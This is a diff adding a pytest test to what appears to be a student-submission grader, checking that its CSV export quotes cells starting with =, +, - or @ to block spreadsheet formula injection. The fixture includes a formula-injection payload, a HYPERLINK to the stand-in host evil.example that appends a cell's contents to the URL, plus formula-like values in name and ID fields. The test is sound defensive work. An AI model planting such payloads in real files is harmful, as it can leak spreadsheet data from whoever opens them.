@@ -250,3 +250,24 @@ def test_gradescope_export_grades_to_a_csv_keyed_by_student(tmp_path, capsys):
     assert "```python\nsoftmax(np.array(" in bad["output"]
     # the class summary at the end of the batch
     assert "Class summary" in cap.out and "Barbara Liskov" in cap.out
+
+
+def test_the_csv_never_holds_a_formula_a_spreadsheet_would_run():
+    """Names, folders, file names and messages come from students: a leading =, +, -, @ is quoted."""
+    from checks.core.verdicts import Status
+    from checks.grader.grade import SubmissionResult
+    from checks.grader.report import csv_text
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
+    rs = [SubmissionResult(f"{evil}.py", f"/x/{evil}.py", status=Status.SYNTAX_ERROR, message="+1 unexpected",
+                           student={"name": "@SUM(A1:A9)", "sid": "-2+3", "email": "ada@example.edu"}),
+          SubmissionResult("plain.py", "/x/plain.py", status=Status.SYNTAX_ERROR, message="line 2: invalid syntax",
+                           student={"name": "Ada Lovelace", "sid": "100"})]
+    rows = list(csv.DictReader(csv_text(rs, ["softmax.softmax"], where=[f"{evil}/submission.py", "sub_2/plain.py"]).splitlines()))
+    first = rows[0]
+    for col in ("student", "name", "sid", "submission", "message", "file"):
+        assert first[col][:1] == "'", (col, first[col])
+    assert first["name"] == "'@SUM(A1:A9)" and first["file"] == f"'{evil}.py" and first["message"] == "'+1 unexpected"
+    # the text stays readable, and harmless cells are untouched
+    assert rows[1]["name"] == "Ada Lovelace" and rows[1]["student"] == "plain.py" and rows[1]["file"] == "plain.py"
+    assert rows[1]["message"] == "line 2: invalid syntax"
